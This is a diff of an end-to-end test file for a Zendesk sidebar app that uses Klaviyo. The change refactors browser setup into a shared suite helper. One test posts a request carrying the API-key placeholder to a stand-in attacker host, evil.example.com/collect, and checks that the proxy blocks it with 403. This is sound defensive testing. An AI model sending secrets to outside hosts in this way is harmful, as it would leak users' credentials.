@@ -4,34 +4,13 @@
  * rules, and the ticket save hook. Some tests speak the SDK's wire protocol from inside the app's
  * frame (the SDK client is not reachable from outside the bundle, and src/ has no test hooks).
  */
-import type { Browser, Frame, Page } from 'playwright-core';
-import { appFrame, appIframeSelector, launchBrowser, ticketView } from './support/browser';
-import { startWorkspace, type Workspace } from './support/workspace';
+import type { Frame } from 'playwright-core';
+import { appFrame, appIframeSelector, ticketView } from './support/browser';
+import { browserSuite } from './support/suite';
 
 jest.setTimeout(60_000);
 
-let workspace: Workspace;
-let browser: Browser;
-let page: Page;
-
-beforeAll(async () => {
-  workspace = await startWorkspace();
-  browser = await launchBrowser();
-});
-
-afterAll(async () => {
-  await browser?.close();
-  await workspace?.stop();
-});
-
-beforeEach(async () => {
-  await workspace.control.reset();
-  page = await browser.newPage({ viewport: { width: 1440, height: 900 } });
-});
-
-afterEach(async () => {
-  await page?.close();
-});
+const suite = browserSuite({ viewport: { width: 1440, height: 900 } });
 
 const PLACEHOLDER = 'Klaviyo-API-Key {{setting.klaviyo_api_key}}';
 
@@ -116,30 +95,30 @@ async function eventually(check: () => Promise<void>, timeoutMs = 10_000): Promi
 }
 
 async function openTicket(id: number): Promise<Frame> {
-  await page.goto(workspace.ticketUrl(id));
-  const frame = await appFrame(page, { ticketId: id });
+  await suite.page.goto(suite.workspace.ticketUrl(id));
+  const frame = await appFrame(suite.page, { ticketId: id });
   await frame.waitForSelector('[data-location="ticket_sidebar"]', { timeout: 20_000 });
   return frame;
 }
 
 describe('the local workspace hosts the app like Zendesk', () => {
   it('loads the app for ticket 101 in a cross-origin sidebar iframe through the real ZAF SDK', async () => {
-    await page.goto(workspace.ticketUrl(101));
-    await page
+    await suite.page.goto(suite.workspace.ticketUrl(101));
+    await suite.page
       .getByTestId('ticket-subject')
       .filter({ hasText: 'Where is my order #4821?' })
       .waitFor();
-    await expect(page.getByTestId('requester-email').textContent()).resolves.toBe(
+    await expect(suite.page.getByTestId('requester-email').textContent()).resolves.toBe(
       'maria.garcia@example.com',
     );
-    const iframe = page.locator(appIframeSelector({ ticketId: 101 }));
+    const iframe = suite.page.locator(appIframeSelector({ ticketId: 101 }));
     const src = new URL((await iframe.getAttribute('src'))!);
-    expect(src.origin).toBe(workspace.appOrigin);
-    expect(src.origin).not.toBe(workspace.hostOrigin);
-    expect(src.searchParams.get('origin')).toBe(workspace.hostOrigin);
+    expect(src.origin).toBe(suite.workspace.appOrigin);
+    expect(src.origin).not.toBe(suite.workspace.hostOrigin);
+    expect(src.searchParams.get('origin')).toBe(suite.workspace.hostOrigin);
     expect(src.searchParams.get('app_guid')).toMatch(/^[0-9a-f-]{36}$/);
 
-    const frame = await appFrame(page, { ticketId: 101 });
+    const frame = await appFrame(suite.page, { ticketId: 101 });
     // The root only renders after registration, so its location comes from the host's context.
     const root = await frame.waitForSelector('[data-location]', { timeout: 20_000 });
     await expect(root.getAttribute('data-location')).resolves.toBe('ticket_sidebar');
@@ -147,10 +126,10 @@ describe('the local workspace hosts the app like Zendesk', () => {
 
   it('substitutes the secret only into secure requests: without secure: true Klaviyo sees the literal placeholder and answers 401', async () => {
     const frame = await openTicket(101);
-    await workspace.control.delete('/klaviyo/requests');
+    await suite.workspace.control.delete('/klaviyo/requests');
     const headers = { Authorization: PLACEHOLDER, revision: '2026-07-15' };
 
-    const plain = await requestFromApp(frame, workspace.hostOrigin, {
+    const plain = await requestFromApp(frame, suite.workspace.hostOrigin, {
       url: 'https://a.klaviyo.com/api/accounts',
       type: 'GET',
       headers,
@@ -159,7 +138,7 @@ describe('the local workspace hosts the app like Zendesk', () => {
     expect(plain.outcome).toBe('fail');
     expect(plain.args[0]?.status).toBe(401);
 
-    const secure = await requestFromApp(frame, workspace.hostOrigin, {
+    const secure = await requestFromApp(frame, suite.workspace.hostOrigin, {
       url: 'https://a.klaviyo.com/api/accounts',
       type: 'GET',
       headers,
@@ -169,7 +148,7 @@ describe('the local workspace hosts the app like Zendesk', () => {
     expect(secure.outcome).toBe('done');
     expect(secure.args[0]?.status).toBe(200);
 
-    const seen = (await workspace.control.klaviyoRequests()).filter(
+    const seen = (await suite.workspace.control.klaviyoRequests()).filter(
       (r) => r.path === '/api/accounts',
     );
     expect(seen.map((r) => r.headers.authorization)).toEqual([
@@ -181,7 +160,7 @@ describe('the local workspace hosts the app like Zendesk', () => {
 
   it('refuses a secure request to a host outside domainWhitelist with 403 before it leaves the proxy', async () => {
     const frame = await openTicket(102);
-    const answer = await requestFromApp(frame, workspace.hostOrigin, {
+    const answer = await requestFromApp(frame, suite.workspace.hostOrigin, {
       url: 'https://evil.example.com/collect',
       type: 'POST',
       headers: { Authorization: PLACEHOLDER },
@@ -191,7 +170,7 @@ describe('the local workspace hosts the app like Zendesk', () => {
     expect(answer.outcome).toBe('fail');
     expect(answer.args[0]?.status).toBe(403);
     expect(answer.args[0]?.responseText).toContain('domainWhitelist');
-    const log = await workspace.control.proxyRequests();
+    const log = await suite.workspace.control.proxyRequests();
     expect(log.filter((r) => r.url.includes('evil.example.com')).map((r) => r.target)).toEqual([
       'refused',
     ]);
@@ -199,7 +178,7 @@ describe('the local workspace hosts the app like Zendesk', () => {
 
   it('passes on Klaviyo’s 400 when a call has no revision header', async () => {
     const frame = await openTicket(102);
-    const answer = await requestFromApp(frame, workspace.hostOrigin, {
+    const answer = await requestFromApp(frame, suite.workspace.hostOrigin, {
       url: 'https://a.klaviyo.com/api/accounts',
       type: 'GET',
       headers: { Authorization: PLACEHOLDER },
@@ -212,12 +191,12 @@ describe('the local workspace hosts the app like Zendesk', () => {
   });
 
   it('shows Zendesk’s “ticket not found” page for an unknown ticket id, with no app loaded', async () => {
-    await page.goto(workspace.ticketUrl(999));
-    const missing = page.getByTestId('not-found');
+    await suite.page.goto(suite.workspace.ticketUrl(999));
+    const missing = suite.page.getByTestId('not-found');
     await missing.waitFor();
     await expect(missing.textContent()).resolves.toContain('Ticket not found');
     await expect(missing.textContent()).resolves.toContain('#999');
-    expect(await page.locator(appIframeSelector()).count()).toBe(0);
+    expect(await suite.page.locator(appIframeSelector()).count()).toBe(0);
   });
 
   it('resizes the app’s iframe when the app invokes resize', async () => {
@@ -252,38 +231,40 @@ describe('the local workspace hosts the app like Zendesk', () => {
             hostOrigin,
           );
         }),
-      workspace.hostOrigin,
+      suite.workspace.hostOrigin,
     );
     expect(height).toBe(432);
   });
 
   it('keeps one app instance per ticket and sends app.deactivated / app.activated when the agent switches tabs', async () => {
     const frame = await openTicket(101);
-    await listenInApp(frame, workspace.hostOrigin, 'app.activated');
-    await listenInApp(frame, workspace.hostOrigin, 'app.deactivated');
-    const guid = await page.locator(appIframeSelector({ ticketId: 101 })).getAttribute('data-guid');
+    await listenInApp(frame, suite.workspace.hostOrigin, 'app.activated');
+    await listenInApp(frame, suite.workspace.hostOrigin, 'app.deactivated');
+    const guid = await suite.page
+      .locator(appIframeSelector({ ticketId: 101 }))
+      .getAttribute('data-guid');
 
-    await page.getByTestId('nav-ticket-102').click();
-    await appFrame(page, { ticketId: 102 });
-    await expect(page.locator(appIframeSelector({ ticketId: 101 })).isVisible()).resolves.toBe(
-      false,
-    );
-    await page.getByTestId('nav-ticket-101').click();
+    await suite.page.getByTestId('nav-ticket-102').click();
+    await appFrame(suite.page, { ticketId: 102 });
+    await expect(
+      suite.page.locator(appIframeSelector({ ticketId: 101 })).isVisible(),
+    ).resolves.toBe(false);
+    await suite.page.getByTestId('nav-ticket-101').click();
 
     await eventually(async () =>
       expect(await heard(frame, 'app.activated')).toEqual([{ firstLoad: false }]),
     );
     expect(await heard(frame, 'app.deactivated')).toHaveLength(1);
     await expect(
-      page.locator(appIframeSelector({ ticketId: 101 })).getAttribute('data-guid'),
+      suite.page.locator(appIframeSelector({ ticketId: 101 })).getAttribute('data-guid'),
     ).resolves.toBe(guid);
   });
 
   it('tells the app when the agent changes the requester', async () => {
     const frame = await openTicket(104);
-    await listenInApp(frame, workspace.hostOrigin, 'ticket.requester.email.changed');
-    await listenInApp(frame, workspace.hostOrigin, 'ticket.requester.id.changed');
-    await page
+    await listenInApp(frame, suite.workspace.hostOrigin, 'ticket.requester.email.changed');
+    await listenInApp(frame, suite.workspace.hostOrigin, 'ticket.requester.id.changed');
+    await suite.page
       .getByTestId('change-requester')
       .selectOption({ label: 'Sven Lindqvist <sven.lindqvist@example.se>' });
     await eventually(async () =>
@@ -292,7 +273,7 @@ describe('the local workspace hosts the app like Zendesk', () => {
       ]),
     );
     expect(await heard(frame, 'ticket.requester.id.changed')).toEqual([1102]);
-    await expect(page.getByTestId('requester-email').textContent()).resolves.toBe(
+    await expect(suite.page.getByTestId('requester-email').textContent()).resolves.toBe(
       'sven.lindqvist@example.se',
     );
   });
@@ -335,7 +316,7 @@ describe('the local workspace hosts the app like Zendesk', () => {
     }
 
     beforeEach(async () => {
-      await page.addInitScript(interceptSaveHook, { hostOrigin: workspace.hostOrigin });
+      await suite.page.addInitScript(interceptSaveHook, { hostOrigin: suite.workspace.hostOrigin });
     });
 
     /** Makes the app answer the hook with `reply`, and tells the host the app listens to it. */
@@ -354,25 +335,25 @@ describe('the local workspace hosts the app like Zendesk', () => {
             hostOrigin,
           );
         },
-        { hostOrigin: workspace.hostOrigin, reply },
+        { hostOrigin: suite.workspace.hostOrigin, reply },
       );
     }
 
     it('blocks the save with the app’s message and keeps the reply text when the app refuses', async () => {
       const frame = await openTicket(101);
-      const before = (await workspace.control.ticket(101)).comments.length;
+      const before = (await suite.workspace.control.ticket(101)).comments.length;
       await fakeSaveHook(frame, { error: 'Klaviyo refused the SMS: the number is unsubscribed.' });
 
-      await ticketView(page, 101).getByTestId('editor').fill('Your parcel left the depot.');
-      await ticketView(page, 101).getByTestId('submit').click();
+      await ticketView(suite.page, 101).getByTestId('editor').fill('Your parcel left the depot.');
+      await ticketView(suite.page, 101).getByTestId('submit').click();
 
       await expect(
-        ticketView(page, 101).getByTestId('save-error-message').textContent(),
+        ticketView(suite.page, 101).getByTestId('save-error-message').textContent(),
       ).resolves.toBe('Klaviyo refused the SMS: the number is unsubscribed.');
-      await expect(ticketView(page, 101).getByTestId('editor').inputValue()).resolves.toBe(
+      await expect(ticketView(suite.page, 101).getByTestId('editor').inputValue()).resolves.toBe(
         'Your parcel left the depot.',
       );
-      expect((await workspace.control.ticket(101)).comments).toHaveLength(before);
+      expect((await suite.workspace.control.ticket(101)).comments).toHaveLength(before);
       expect(
         await frame.evaluate(() => (window as unknown as { __saveAsked: number }).__saveAsked),
       ).toBe(1);
@@ -381,22 +362,24 @@ describe('the local workspace hosts the app like Zendesk', () => {
     it('saves the reply as a public comment once the app agrees', async () => {
       const frame = await openTicket(101);
       await fakeSaveHook(frame, { error: 'Not yet' });
-      await ticketView(page, 101).getByTestId('editor').fill('Your parcel left the depot.');
-      await ticketView(page, 101).getByTestId('submit').click();
-      await ticketView(page, 101).getByTestId('save-error').waitFor();
+      await ticketView(suite.page, 101).getByTestId('editor').fill('Your parcel left the depot.');
+      await ticketView(suite.page, 101).getByTestId('submit').click();
+      await ticketView(suite.page, 101).getByTestId('save-error').waitFor();
 
       await fakeSaveHook(frame, 'ok');
-      await ticketView(page, 101).getByTestId('submit').click();
+      await ticketView(suite.page, 101).getByTestId('submit').click();
 
-      await ticketView(page, 101)
+      await ticketView(suite.page, 101)
         .getByTestId('comment')
         .filter({ hasText: 'Your parcel left the depot.' })
         .waitFor({ timeout: 10_000 });
-      await expect(ticketView(page, 101).getByTestId('editor').inputValue()).resolves.toBe('');
-      await expect(ticketView(page, 101).getByTestId('save-error').isVisible()).resolves.toBe(
+      await expect(ticketView(suite.page, 101).getByTestId('editor').inputValue()).resolves.toBe(
+        '',
+      );
+      await expect(ticketView(suite.page, 101).getByTestId('save-error').isVisible()).resolves.toBe(
         false,
       );
-      const { comments } = await workspace.control.ticket(101);
+      const { comments } = await suite.workspace.control.ticket(101);
       expect(comments.at(-1)).toMatchObject({
         body: 'Your parcel left the depot.',
         public: true,
